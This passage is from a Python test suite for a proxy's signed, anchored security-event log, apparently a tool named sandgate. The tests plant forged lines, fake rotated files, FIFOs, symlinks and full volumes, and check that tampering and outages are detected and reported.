        self.assertIn("its writer's anchor names seq %d (copy, "
                      % json.loads(self.lines[-1])["seq"], r.stdout)

    def test_m5_key_places(self):
        """M5: a key folder in the log folder is refused (host paths), and
        a key folder that is a symlink is never chmod-ed or chown-ed."""
        state = os.path.join(W["dir"], "t4-m5")
        env = {"SANDGATE_STATE": state,
               "SANDGATE_LOG_DIR": os.path.join(state, "proxy")}
        r = sandgate_env(env, "audit", "key", "create")
        self.assertNotEqual(r.returncode, 0, r.stdout)
        self.assertIn("is in the log folder", r.stderr)
        # `proxy start` refuses it before it talks to Docker (here an
        # address with no daemon, so nothing is started either way).
        p = proxylib.Proxy(W["dir"], W["up"], name="t4-m5-start")
        env["DOCKER_HOST"] = "unix://" + os.path.join(state, "no.sock")
        r = sandgate_env(env, "proxy", "start", "--policy-dir",
                         p.policy_dir)
        self.assertNotEqual(r.returncode, 0, r.stdout)
        self.assertIn("is in the log folder", r.stderr)
        self.assertFalse(os.path.exists(os.path.join(
            state, "proxy", "keys", "checkpoint.key")))
        victim = os.path.join(W["dir"], "t4-m5-victim")
        os.makedirs(victim)
        os.chmod(victim, 0o755)
        state2 = os.path.join(W["dir"], "t4-m5b")
        os.makedirs(os.path.join(state2, "proxy"))
        os.symlink(victim, os.path.join(state2, "proxy", "keys"))
        env = {"SANDGATE_STATE": state2,
               "SANDGATE_LOG_DIR": os.path.join(W["dir"], "t4-m5b-logs")}
        r = sandgate_env(env, "audit", "key", "create")
        self.assertNotEqual(r.returncode, 0, r.stdout)
        st = os.stat(victim)
        self.assertEqual((stat.S_IMODE(st.st_mode), st.st_uid),
                         (0o755, 0), "the symlink's target was changed")
        self.assertEqual(os.listdir(victim), [])
        p = proxylib.Proxy(W["dir"], W["up"], name="t4-m5-check")
        inlog = os.path.join(p.log_dir, "checkpoint.key")
        shutil.copy2(self.key, inlog)
        r = proxylib.run(p.argv() + ["--checkpoint-key", inlog, "--check"])
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("is in the log folder", r.stderr)

    def test_m6_fifo_and_links(self):
        """M6: a FIFO or a symlink to a device among the rotated files:
        verify and export refuse it at once, and the proxy starts."""
        logs, path, key = self.clone("m6")
        rot = path + ".1"
        os.mkfifo(rot)
        for args in (("verify", "--key", self.pub),
                     ("export", "--format", "ocsf")):
            r = sandgate_env(None, "audit", *args, "--log-dir", logs,
                             timeout=15)
            self.assertEqual(r.returncode, 125, r.stdout + r.stderr)
            self.assertIn("is not a regular file", r.stderr)
        os.unlink(rot)
        fifo_key = os.path.join(W["dir"], "t4-m6-key.pub")
        os.mkfifo(fifo_key)
        r = sandgate_env(None, "audit", "verify", "--key", fifo_key,
                         "--log-dir", logs, timeout=15)
        self.assertEqual(r.returncode, 125, r.stdout + r.stderr)
        self.assertIn("is not a regular file", r.stderr)
        os.symlink("/dev/zero", rot)
        r = sandgate_env(None, "audit", "verify", "--key", self.pub,
                         "--log-dir", logs, timeout=15)
        self.assertEqual(r.returncode, 125, r.stdout + r.stderr)
        self.assertIn("it is a symlink", r.stderr)
        os.unlink(rot)
        os.rename(path, path + ".away")
        os.mkfifo(rot)
        with open(path, "wb"):
            pass
        p = start_proxy("t4-m6-run", key, log_dir=logs)
        flood(p.port, 5, "fifo")
        stop_proxy(p)
        self.assertIn("not a regular file", p.stderr())
        r = self.verify("--key", self.pub, path)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("were cut, or the log was replaced", r.stdout)
        os.unlink(rot)


class T5Round2(unittest.TestCase):
    """Second round: a full volume and the anchor (F1), files named to
    verify without an anchor (F5)."""

    @unittest.skipUnless(os.geteuid() == 0 and shutil.which("mount"),
                         "needs root to mount a small tmpfs")
    def test_f1_full_volume_leaves_no_close_unanchored(self):
        """F1: the log folder and the key folder on one small volume,
        which whoever writes the log folder fills up before the proxy
        stops: a close in the log is one the anchor names (else the proxy
        wrote none and says so, exit 1), and lines planted after that
        close fail verify --key once the proxy restarted."""
        vol = tempfile.mkdtemp(prefix="f1-vol-", dir=W["dir"])
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs",
                        vol], check=True, timeout=30)
        procs = []
        try:
            keys = os.path.join(vol, "keys")
            logs = os.path.join(vol, "logs")
            os.mkdir(keys, 0o700)
            os.mkdir(logs)
            key = os.path.join(keys, "checkpoint.key")
            r = sandgate("audit", "key", "create", key)
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
            pub = os.path.join(W["dir"], "f1.pub")
            shutil.copyfile(key + ".pub", pub)
            p = start_proxy("f1", key, log_dir=logs)
            procs.append(p)
            flood(p.port, 10, "real")
            time.sleep(1.5)
            fd = os.open(os.path.join(logs, "filler"),
                         os.O_WRONLY | os.O_CREAT, 0o644)
            try:
                while os.write(fd, b"\0" * 4096) > 0:
                    pass
            except OSError:
                pass
            os.close(fd)
            time.sleep(1.2)
            status = p.stop()
            os.unlink(os.path.join(logs, "filler"))
            lines = read_lines(p.log_path)
            last = json.loads(lines[-1])
            with open(key + ".anchor") as f:
                anchor = f.read()
            if last.get("reason") != "close":
                self.assertEqual(status, 1, p.stderr())
                self.assertIn("the log is not closed", p.stderr())
                return
            self.assertIn(" seq=%d hash=%s reason=close " % (
                last["seq"], last["hash"]), anchor)
            for i in range(2):
                lines.append(forged_event(last["seq"] + 1 + i,
                                          last_hash(lines),
                                          "planted-%d.invalid" % i))
            write_lines(p.log_path, lines)
            again = start_proxy("f1-again", key, log_dir=logs)
            procs.append(again)
            stop_proxy(again)
            r = sandgate("audit", "verify", "--log-dir", logs, "--key", pub,
                         "--anchor", key + ".anchor")
            self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
            self.assertIn("follow the writer's close at seq %d"
                          % last["seq"], r.stdout)
        finally:
            for q in procs:
                q.kill()
            subprocess.run(["umount", vol], timeout=30)

    def test_f5_files_are_not_checked_against_an_anchor(self):
        """F5: verify --key of named files or another folder says that no
        writer's anchor was used."""
        key, pub = make_key("f5")
        p = start_proxy("f5", key)
        flood(p.port, 5, "f5")
        stop_proxy(p)
        for args in ((p.log_path,), ("--log-dir", p.log_dir)):
            r = sandgate("audit", "verify", "--key", pub, *args)
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
            self.assertIn("note: not checked against a writer's anchor",
                          r.stdout)
        r = sandgate("audit", "verify", "--key", pub, "--anchor",
                     key + ".anchor", p.log_path)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertNotIn("not checked against", r.stdout)


class T6Round3(unittest.TestCase):
    """Third round: files planted among the rotated names (G1), a planted
    seq just under 2^53 at the end of the log (G2)."""

    def test_g1_planted_rotated_files(self):
        """G1: empty files planted as NAME.2 .. NAME.10 before a rotation
        neither move the writer's first= nor get its files deleted; the
        real rotated files deleted afterwards fail verify --key."""
        key, pub = make_key("g1")
        p = proxylib.Proxy(W["dir"], W["up"], name="t6-g1", extra_args=[
            "--checkpoint-key", key, "--checkpoint-every", str(EVERY),
            "--checkpoint-interval", str(INTERVAL), "--log-max-size", "16k",
            "--log-keep", "10"] + proxylib.full_lines_args()).start()
        try:
            base = p.log_path + "."
            for i in range(6):
                flood(p.port, 50, "g1a%d-" % i)
                if os.path.exists(base + "1"):
                    break
            self.assertTrue(os.path.exists(base + "1"))
            n = 1
            while os.path.exists(base + str(n + 1)):
                n += 1
            planted = [base + str(i) for i in range(n + 1, 11)]
            for f in planted:
                open(f, "w").close()
            kept = {f: os.stat(base + str(f)).st_ino
                    for f in range(1, n + 1)}
            for i in range(6):
                flood(p.port, 50, "g1b%d-" % i)
            time.sleep(1.5)
        finally:
            stop_proxy(p)
        inodes = {f: os.stat(base + str(f)).st_ino for f in kept}
        sizes = [os.path.getsize(f) for f in planted]
        with open(key + ".anchor") as f:
            anchor = f.read()
        # Whoever writes the folder removes its empty files, then every
        # rotated file left: the writer's anchor still says seq 1.
        rotated = [os.path.join(p.log_dir, f) for f in os.listdir(p.log_dir)
                   if f.startswith("security-events.jsonl.")]
        for f in rotated:
            os.unlink(f)
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key", pub,
                     "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 1, anchor + r.stdout + r.stderr)
        self.assertIn("says it keeps the log from seq 1", r.stdout)
        self.assertRegex(anchor, r" first=1( |\n)")
        self.assertEqual(inodes, kept)
        self.assertEqual(sizes, [0] * len(planted))
        self.assertIn("not rotating", p.stderr())

    def test_g2_seq_near_the_bound(self):
        """G2: one line planted after the close with seq 2^53 - 1 or
        2^53 - 3: the proxy continues from its close (log.resume), logs
        the next requests and closes its log, at this start and the next;
        verify reports the planted line."""
        key0, pub = make_key("g2")
        p = start_proxy("t6-g2", key0)
        flood(p.port, 20, "g2base")
        stop_proxy(p)
        for seq in (2 ** 53 - 1, 2 ** 53 - 3):
            d = os.path.join(W["dir"], "t6-g2-%d" % seq)
            logs = os.path.join(d, "logs")
            shutil.copytree(p.log_dir, logs)
            shutil.copytree(os.path.dirname(key0), os.path.join(d, "keys"))
            key = os.path.join(d, "keys", "checkpoint.key")
            path = os.path.join(logs, "security-events.jsonl")
            lines = read_lines(path)
            close = json.loads(lines[-1])["seq"]
            lines.append(forged_event(seq, last_hash(lines), "ovf.invalid"))
            write_lines(path, lines)
            after = resumed_twice(self, "t6-g2-%d" % seq, key, logs, lines,
                                  close)
            self.assertEqual(sum(x["event"] == "log.resume" for x in after),
                             1)
            with open(key + ".anchor") as f:
                self.assertIn(" seq=%d " % after[-1]["seq"], f.read())
            r = sandgate("audit", "verify", "--log-dir", logs, "--key", pub,
                         "--anchor", key + ".anchor")
            self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
            self.assertIn("seq %d follows seq %d" % (seq, close),
                          r.stdout + r.stderr)


class T7Round4(unittest.TestCase):
    """Fourth round: rotated names planted with copies of the writer's
    own first line (F1) or as many hard links as it may keep (F3), a
    planted run linked only to a planted line at the end of the log
    (F2)."""

    def rotating_proxy(self, name, key):
        return proxylib.Proxy(W["dir"], W["up"], name=name, extra_args=[
            "--checkpoint-key", key, "--checkpoint-every", str(EVERY),
            "--checkpoint-interval", str(INTERVAL), "--log-max-size", "16k",
            "--log-keep", "10"] + proxylib.full_lines_args()).start()

    def first_rotation(self, p, tag):
        base = p.log_path + "."
        for i in range(6):
            flood(p.port, 50, "%s%d-" % (tag, i))
            if os.path.exists(base + "1"):
                break
        self.assertTrue(os.path.exists(base + "1"))
        n = 1
        while os.path.exists(base + str(n + 1)):
            n += 1
        return base, n

    def test_f1_copied_first_lines(self):
        """F1: NAME.(N+1) .. NAME.10 planted with a copy of the writer's
        first line (the oldest past 8 KiB, ending with seq 10^12; one
        starting with seq 2^53 - 100): the writer rotates onto none of
        them and its anchor keeps first=1, at this start and the next;
        every rotated file deleted fails verify --key."""
        key, pub = make_key("f1r4")
        p = self.rotating_proxy("t7-f1", key)
        try:
            base, n = self.first_rotation(p, "f1a")
            self.assertLessEqual(n, 8)
            own = read_lines(base + str(n))[0]
            planted = [base + str(i) for i in range(n + 1, 11)]
            for f in planted[:-2]:
                write_lines(f, [own])
            write_lines(planted[-2], [forged_event(2 ** 53 - 100, "0" * 64,
                                                   "f1.invalid")])
            write_lines(planted[-1], [own] + [b"x" * 100] * 100 +
                        [forged_event(10 ** 12, "0" * 64, "f1.invalid")])
            kept = {f: os.stat(base + str(f)).st_ino
                    for f in range(1, n + 1)}
            for i in range(6):
                flood(p.port, 50, "f1b%d-" % i)
            time.sleep(1.5)
        finally:
            stop_proxy(p)
        with open(key + ".anchor") as f:
            anchor = f.read()
        self.assertRegex(anchor, r" first=1( |\n)")
        q = start_proxy("t7-f1-again", key, log_dir=p.log_dir)
        flood(q.port, 60, "f1c")
        stop_proxy(q)
        with open(key + ".anchor") as f:
            anchor2 = f.read()
        self.assertRegex(anchor2, r" first=1( |\n)")
        self.assertEqual({f: os.stat(base + str(f)).st_ino for f in kept},
                         kept)
        for f in planted:
            self.assertTrue(os.path.exists(f), f)
        for f in os.listdir(p.log_dir):
            if f.startswith("security-events.jsonl."):
                os.unlink(os.path.join(p.log_dir, f))
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key", pub,
                     "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 1, anchor2 + r.stdout + r.stderr)
        self.assertIn("says it keeps the log from seq 1", r.stdout)

    def test_f2_run_linked_to_a_planted_line(self):
        """F2: [seq 2^53 - 2][a copy of the close][seq 2^53 - 1, prev the
        hash of the first] planted after the close: the proxy continues
        from its close (log.resume), logs and closes, at this start and
        the next; verify reports the planted lines."""
        key0, pub = make_key("f2r4")
        p = start_proxy("t7-f2", key0)
        flood(p.port, 20, "f2base")
        stop_proxy(p)
        path = p.log_path
        lines = read_lines(path)
        close = json.loads(lines[-1])["seq"]
        p1 = forged_event(2 ** 53 - 2, last_hash(lines), "ovf.invalid")
        p2 = forged_event(2 ** 53 - 1, last_hash([p1]), "ovf.invalid")
        lines += [p1, lines[-1], p2]
        write_lines(path, lines)
        resumed_twice(self, "t7-f2", key0, p.log_dir, lines, close)
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key", pub,
                     "--anchor", key0 + ".anchor")
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("seq %d follows seq %d" % (2 ** 53 - 2, close),
                      r.stdout + r.stderr)

    def test_f3_hard_links(self):
        """F3: NAME.2 .. NAME.100000 hard links to a copy of the writer's
        first line: the proxy keeps logging in its file, deletes none of
        them, and closes its log on SIGTERM within the drain time."""
        key, pub = make_key("f3r4")
        p = self.rotating_proxy("t7-f3", key)
        try:
            base, n = self.first_rotation(p, "f3a")
            self.assertEqual(n, 1)
            seeds = [os.path.join(W["dir"], "f3seed%d" % i) for i in (0, 1)]
            for s in seeds:   # ext4: 65000 links a file
                write_lines(s, read_lines(base + "1")[:1])
            for i in range(2, 100001):
                os.link(seeds[i % 2], base + str(i))
            size = os.path.getsize(p.log_path)
            flood(p.port, 20, "f3b", threads=4)
            time.sleep(1.5)
            hosts = [json.loads(x).get("host")
                     for x in read_lines(p.log_path)]
            status = p.stop(timeout=35)
            links = [os.stat(s).st_nlink for s in seeds]
        finally:
            p.kill()
            for i in range(2, 100001):
                try:
                    os.unlink(base + str(i))
                except FileNotFoundError:
                    pass
        self.assertEqual(status, 0, p.stderr()[-2000:])
        self.assertIsNone(p.sanitizer_report())
        self.assertNotIn("unavailable", p.stderr())
        self.assertGreater(os.path.getsize(p.log_path), size)
        for i in range(4):
            self.assertIn("f3b%d.invalid" % i, hosts)
        self.assertEqual(links, [50001, 50000])
        last = json.loads(read_lines(p.log_path)[-1])
        self.assertEqual((last["event"], last["reason"]),
                         ("log.checkpoint", "close"))


def rounds_then_stop(p, tag, key):
    """Six rounds of 50 blocked requests, a checkpoint interval, SIGTERM;
    returns the anchor the proxy left beside key."""
    try:
        for i in range(6):
            flood(p.port, 50, "%s%d-" % (tag, i))
        time.sleep(1.2)
    finally:
        stop_proxy(p)
    with open(key + ".anchor") as f:
        return f.read()


class T8Round5(unittest.TestCase):
    """Fifth round: the names shifted up one and a current file planted
    while the writer is stopped after its close (F1), a split planted run
    near 2^53 behind 8 KiB of junk (F3), a rotation cut short (F4)."""

    def rotating(self, name, key, log_dir=None):
        p = proxylib.Proxy(W["dir"], W["up"], name=name, extra_args=[
            "--checkpoint-key", key, "--checkpoint-every", str(EVERY),
            "--checkpoint-interval", str(INTERVAL), "--log-max-size", "16k",
            "--log-keep", "4"] + proxylib.full_lines_args())
        if log_dir is not None:
            p.log_dir = log_dir
            p.log_path = os.path.join(log_dir, "security-events.jsonl")
        return p.start()

    def rotated(self, p, tag, files):
        """Blocked requests until NAME.files exists."""
        for i in range(12):
            if os.path.exists("%s.%d" % (p.log_path, files)):
                return
            flood(p.port, 50, "%s%d-" % (tag, i))
        self.fail("no %s.%d" % (p.log_path, files))

    def test_f1_names_shifted_after_close(self):
        """F1: after the close, NAME.i -> NAME.(i+1), NAME -> NAME.1, and
        a new NAME: a line of seq 10^12, 9000 newlines, a copy of the
        real current file. The restarted proxy's anchor never says a
        first past the files it wrote; the rotated files deleted fail
        verify --key."""
        key, pub = make_key("f1r5")
        p = self.rotating("t8-f1", key)
        try:
            self.rotated(p, "f1r5a", 2)
        finally:
            stop_proxy(p)
        base = p.log_path + "."
        n = 2
        while os.path.exists(base + str(n + 1)):
            n += 1
        for i in range(n, 0, -1):
            os.rename(base + str(i), base + str(i + 1))
        os.rename(p.log_path, base + "1")
        with open(p.log_path, "wb") as f:
            f.write(forged_event(10 ** 12, "0" * 64, "f1.invalid") + b"\n")
            f.write(b"\n" * 9000)
            with open(base + "1", "rb") as g:
                f.write(g.read())
        q = self.rotating("t8-f1-again", key, log_dir=p.log_dir)
        anchor = rounds_then_stop(q, "f1r5b", key)
        first = int(re.search(r" first=(\d+)", anchor).group(1))
        for f in [p.log_path] + [base + str(i) for i in range(1, 20)]:
            if os.path.exists(f):
                head = json.loads(read_lines(f)[0])
                self.assertEqual(head["event"], "log.checkpoint", f)
                self.assertLessEqual(first, head["seq"], anchor)
        for i in range(2, 20):
            if os.path.exists(base + str(i)):
                os.unlink(base + str(i))
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key", pub,
                     "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 1, anchor + r.stdout + r.stderr)

    def test_f2_reopen_name_taken(self):
        """F2 (the SIGUSR1 window): the log moved to NAME.1 as logrotate
        does and a file starting with seq 10^12 put at NAME before the
        proxy's SIGUSR1: the proxy moves it aside (stderr says so) and
        logs in a file it made, which starts with its rotate checkpoint;
        its anchor's first never takes 10^12."""
        key, pub = make_key("f2r5")
        p = self.rotating("t8-f2", key)
        try:
            flood(p.port, 10, "f2r5a")
            os.rename(p.log_path, p.log_path + ".1")
            planted = forged_event(10 ** 12, "0" * 64, "f2.invalid")
            write_lines(p.log_path, [planted])
            p.proc.send_signal(signal.SIGUSR1)
            time.sleep(0.5)
        except BaseException:
            stop_proxy(p)
            raise
        anchor = rounds_then_stop(p, "f2r5c", key)
        self.assertIn("did not create", p.stderr())
        aside = [f for f in os.listdir(p.log_dir) if ".foreign." in f]
        self.assertEqual(len(aside), 1, os.listdir(p.log_dir))
        self.assertEqual(read_lines(os.path.join(p.log_dir, aside[0])),
                         [planted])
        for f in [p.log_path] + [p.log_path + ".%d" % i for i in (1, 2)]:
            head = json.loads(read_lines(f)[0])
            self.assertEqual(head["event"], "log.checkpoint", f)
        self.assertNotIn("first=%d" % 10 ** 12, anchor)

    def test_f3_split_run_behind_junk(self):
        """F3: 8 KiB of junk, then [seq 2^53 - 2][a copy of the close]
        [seq 2^53 - 1, prev the hash of the first] after the close, so
        that the first is the first log line the writer's first window
        shows: the proxy continues from its close (log.resume), logs and
        closes, at this start and the next."""
        key, pub = make_key("f3r5")
        p = start_proxy("t8-f3", key)
        flood(p.port, 20, "f3r5base")
        stop_proxy(p)
        lines = read_lines(p.log_path)
        close = json.loads(lines[-1])["seq"]
        p1 = forged_event(2 ** 53 - 2, last_hash(lines), "ovf.invalid")
        p2 = forged_event(2 ** 53 - 1, last_hash([p1]), "ovf.invalid")
        lines += [b"x" * 99] * 82 + [p1, lines[-1], p2]
        write_lines(p.log_path, lines)
        resumed_twice(self, "t8-f3", key, p.log_dir, lines, close)

    def test_f4_rotation_cut_short(self):
        """F4: a crash between the renames of a rotation (NAME.1 moved to
        NAME.2, NAME not yet to NAME.1): the restarted proxy rotates on
        and its file stays within --log-max-size."""
        key, pub = make_key("f4r5")
        p = self.rotating("t8-f4", key)
        try:
            self.rotated(p, "f4r5a", 1)
        finally:
            p.kill()
        base = p.log_path + "."
        os.rename(base + "1", base + "2")
        q = self.rotating("t8-f4-again", key, log_dir=p.log_dir)
        try:
            for i in range(6):
                flood(q.port, 50, "f4r5b%d-" % i)
        finally:
            stop_proxy(q)
        self.assertNotIn("not rotating", q.stderr())
        self.assertLessEqual(os.path.getsize(p.log_path), 16 * 1024)
        self.assertTrue(os.path.exists(base + "3"))


class T9Round6(unittest.TestCase):
    """Sixth round: a NAME.1 planted in logrotate's window before the
    proxy's SIGUSR1 (F1); the names a file at NAME would be moved aside
    to made ahead (F2)."""

    def logrotate(self, p, n):
        """logrotate's numbered renames (NAME.n .. NAME.1 up one, NAME to
        NAME.1); the caller sends SIGUSR1 (its postrotate)."""
        for i in range(n, 0, -1):
            os.rename("%s.%d" % (p.log_path, i),
                      "%s.%d" % (p.log_path, i + 1))
        os.rename(p.log_path, p.log_path + ".1")

    def reopened(self, p):
        p.proc.send_signal(signal.SIGUSR1)
        time.sleep(0.5)

    def test_f1_planted_name1_on_reopen(self):
        """F1: third logrotate step; in its window the writer's rotated
        files are held aside and NAME.1 is planted, one line of seq 10^12,
        until after SIGUSR1. The anchor's first stays at the writer's
        oldest file, and deleting NAME.2 and NAME.3 fails verify --key."""
        key, pub = make_key("f1r6")
        p = start_proxy("t9-f1", key)
        base = p.log_path + "."
        try:
            for n, tag in enumerate(("f1r6a", "f1r6b", "f1r6c")):
                flood(p.port, 10, tag)
                self.logrotate(p, n)
                if n < 2:
                    self.reopened(p)
            for i in (1, 2, 3):
                os.rename(base + str(i), os.path.join(p.log_dir,
                                                      "hold.%d" % i))
            write_lines(base + "1", [forged_event(10 ** 12, "0" * 64,
                                                  "f1r6.invalid")])
            self.reopened(p)
            os.unlink(base + "1")
            for i in (1, 2, 3):
                os.rename(os.path.join(p.log_dir, "hold.%d" % i),
                          base + str(i))
            flood(p.port, 10, "f1r6d")
            time.sleep(INTERVAL + 0.5)
        finally:
            stop_proxy(p)
        with open(key + ".anchor") as f:
            anchor = f.read()
        first = int(re.search(r" first=(\d+)", anchor).group(1))
        oldest = json.loads(read_lines(base + "3")[0])["seq"]
        self.assertLessEqual(first, oldest, anchor)
        verify = ("audit", "verify", "--log-dir", p.log_dir, "--key", pub,
                  "--anchor", key + ".anchor")
        r = sandgate(*verify)
        self.assertEqual(r.returncode, 0, anchor + r.stdout + r.stderr)
        os.unlink(base + "3")
        os.unlink(base + "2")
        r = sandgate(*verify)
        self.assertEqual(r.returncode, 1, anchor + r.stdout + r.stderr)

    def test_f2_aside_names_taken(self):
        """F2: NAME moved to NAME.1, then a file at NAME and
        NAME.foreign.SEQ.0 .. 63 made (SEQ the last in NAME.1) before
        SIGUSR1: the proxy moves the file aside all the same, logs the
        next requests in a file it made and closes its log."""
        key, pub = make_key("f2r6")
        p = start_proxy("t9-f2", key)
        try:
            flood(p.port, 10, "f2r6a")
            time.sleep(INTERVAL + 0.5)
            os.rename(p.log_path, p.log_path + ".1")
            seq = json.loads(read_lines(p.log_path + ".1")[-1])["seq"]
            write_lines(p.log_path, [b""])
            for i in range(64):
                write_lines("%s.foreign.%d.%d" % (p.log_path, seq, i), [])
            self.reopened(p)
            flood(p.port, 10, "f2r6b")
        finally:
            stop_proxy(p)
        self.assertIn("did not create", p.stderr())
        lines = [json.loads(x) for x in read_lines(p.log_path)]
        self.assertEqual(lines[0]["event"], "log.checkpoint")
        self.assertTrue(any("f2r6b" in json.dumps(x) for x in lines),
                        "no f2r6b request in the log")
        self.assertEqual(lines[-1].get("reason"), "close", lines[-1])
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key", pub,
                     "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)


class T10Round7(unittest.TestCase):
    """Seventh round: an outage of the log followed by a restart (F2)."""

    @unittest.skipUnless(os.geteuid() == 0 and shutil.which("mount"),
                         "needs root to mount a small tmpfs")
    def test_f2_outage_survives_restart(self):
        """F2: the log folder on a small volume that whoever writes it
        fills up; blocked requests then cannot be logged, and the proxy
        is stopped and started again before any line could be written:
        the restarted proxy writes the log.outage line (its anchor kept
        the count), and verify --key passes."""
        key, pub = make_key("f2r7")
        vol = tempfile.mkdtemp(prefix="f2r7-vol-", dir=W["dir"])
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs",
                        vol], check=True, timeout=30)
        procs = []
        try:
            p = start_proxy("f2r7", key, log_dir=vol)
            procs.append(p)
            flood(p.port, 10, "f2r7a")
            time.sleep(1.5)
            fd = os.open(os.path.join(vol, "filler"),
                         os.O_WRONLY | os.O_CREAT, 0o644)
            try:
                while os.write(fd, b"\0" * 4096) > 0:
                    pass
            except OSError:
                pass
            os.close(fd)
            flood(p.port, 10, "f2r7b")
            time.sleep(2.5)
            p.stop()
            os.unlink(os.path.join(vol, "filler"))
            again = start_proxy("f2r7-again", key, log_dir=vol)
            procs.append(again)
            flood(again.port, 5, "f2r7c")
            stop_proxy(again)
            lines = []
            for x in read_lines(again.log_path):
                try:
                    lines.append(json.loads(x))
                except ValueError:
                    pass    # the line torn when the volume filled up
            outage = [x for x in lines if x.get("event") == "log.outage"]
            logged = sum(1 for x in lines if "f2r7b" in json.dumps(x))
            self.assertTrue(outage, "no log.outage line after the restart; "
                            "%d of 10 f2r7b requests logged" % logged)
            # Each of the 10 attempts is in a line logged (its own, or a
            # summary's count: a stopped client's attempts go into one
            # log_unavailable summary with no host, blocklog.h) or in a
            # line lost, which log.outage's lost_events counts by the
            # attempts it held (`lost` counts lines: one summary line
            # lost can hold several attempts).
            held = sum(x.get("count", 1) for x in lines
                       if "f2r7b" in json.dumps(x) or
                       (x.get("event", "").endswith("_summary") and
                        x.get("host") is None))
            lost_events = sum(x.get("lost_events", 0) for x in outage)
            self.assertGreaterEqual(held + lost_events, 10, outage)
            self.assertLessEqual(logged, 10, outage[0])
            self.assertIn("No space left", outage[0]["cause"])
            r = sandgate("audit", "verify", "--log-dir", vol, "--key", pub,
                         "--anchor", key + ".anchor")
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        finally:
            for q in procs:
                q.kill()
            subprocess.run(["umount", vol], timeout=30)


class T11Round8(unittest.TestCase):
    """Eighth round: what verify --key says about a stop right after a
    checkpoint and about an outage the anchor holds."""

    def test_f1_f3_notes(self):
        key, pub = make_key("r8notes")
        lines = []
        for reason in ("open", None, "timer", "open", None, "close"):
            seq = len(lines) + 1
            if reason is None:
                lines.append(forged_event(seq, last_hash(lines),
                                          "r8-%d.test" % seq))
            else:
                lines.append(forged_checkpoint(key, seq, last_hash(lines),
                                               reason))
        d = write_log("r8notes", lines)
        close = json.loads(lines[-1])
        anchor = os.path.join(W["dir"], "r8notes.anchor")
        with open(anchor, "w") as f:
            f.write("sandgate-anchor-v1 seq=6 hash=%s reason=close ts=%s "
                    "key=%s lost=5 since=2026-12-02T04:43:53.077115Z "
                    "cause=cannot write: No space left on device\n" % (
                        close["hash"], close["ts"], close["key"]))
        r = sandgate("audit", "verify", "--log-dir", d, "--key", pub,
                     "--anchor", anchor)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        # F1: the open at seq 4 follows the timer at seq 3 directly.
        self.assertIn("the writer stopped without closing the log at seq 3 "
                      "(timer)", r.stdout)
        # F3: the anchor's outage is named, with since and cause.
        self.assertIn("5 event(s) lost since 2026-12-02T04:43:53.077115Z "
                      "(cannot write: No space left on device)", r.stdout)


class T12Round12(unittest.TestCase):
    """Twelfth round: the writer's own lines after its anchored close,
    cut off from their anchor by SIGKILL, are no false alarm."""

    def crashed(self, name, key, crash, log_dir):
        """The proxy started on log_dir with SANDGATE_TEST_CRASH=crash
        dies there by SIGKILL before it listens."""
        p = proxy_for(name, key, log_dir=log_dir,
                      env={"SANDGATE_TEST_CRASH": crash})
        rc = subprocess.run(p.argv(), env=p.env, stdin=subprocess.DEVNULL,
                            capture_output=True, timeout=60).returncode
        self.assertEqual(rc, -signal.SIGKILL, "not killed at " + crash)

    def restart_and_verify(self, name, key, pub, log_dir):
        again = start_proxy(name, key, log_dir=log_dir)
        try:
            flood(again.port, 3, name)
            stop_proxy(again)
        finally:
            again.kill()
        r = sandgate("audit", "verify", "--log-dir", log_dir, "--key", pub,
                     "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        resumes = [json.loads(x) for x in read_lines(
            os.path.join(log_dir, "security-events.jsonl"))
            if b'"log.resume"' in x]
        self.assertEqual(len(resumes), 1, resumes)
        return resumes[0]

    def clean_run(self, name, key):
        p = start_proxy(name, key)
        try:
            flood(p.port, 5, name)
            stop_proxy(p)
        finally:
            p.kill()
        return p.log_dir

    def test_f2_killed_at_open_after_clean_stop(self):
        """F2: killed after its open line, before the anchor names it."""
        key, pub = make_key("r12f2")
        logs = self.clean_run("r12f2", key)
        self.crashed("r12f2-crash", key, "anchor:open", logs)
        with open(key + ".anchor") as f:
            self.assertIn(" reason=close ", f.read())
        resume = self.restart_and_verify("r12f2-again", key, pub, logs)
        self.assertIs(resume.get("anchor_reopened"), True, resume)

    def test_f3_key_rotated_while_stopped(self):
        """F3: the next key waits; killed after the hand-over line."""
        key, pub = make_key("r12f3")
        logs = self.clean_run("r12f3", key)
        r = sandgate("audit", "key", "rotate", key)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.crashed("r12f3-crash", key, "key:written", logs)
        resume = self.restart_and_verify("r12f3-again", key, pub, logs)
        self.assertIs(resume.get("anchor_reopened"), True, resume)

    def test_f4_killed_after_own_close(self):
        """F4: SIGTERM; killed after the close line, before its anchor."""
        key, pub = make_key("r12f4")
        p = start_proxy("r12f4", key, env={"SANDGATE_TEST_CRASH":
                                           "anchor:close"})
        try:
            flood(p.port, 5, "r12f4")
            p.proc.send_signal(signal.SIGTERM)
            self.assertEqual(p.proc.wait(timeout=30), -signal.SIGKILL)
        finally:
            p.kill()
            p.stop()
        last = json.loads(read_lines(p.log_path)[-1])
        self.assertEqual(last.get("reason"), "close", last)
        resume = self.restart_and_verify("r12f4-again", key, pub, p.log_dir)
        self.assertEqual(resume["found_seq"], last["seq"])

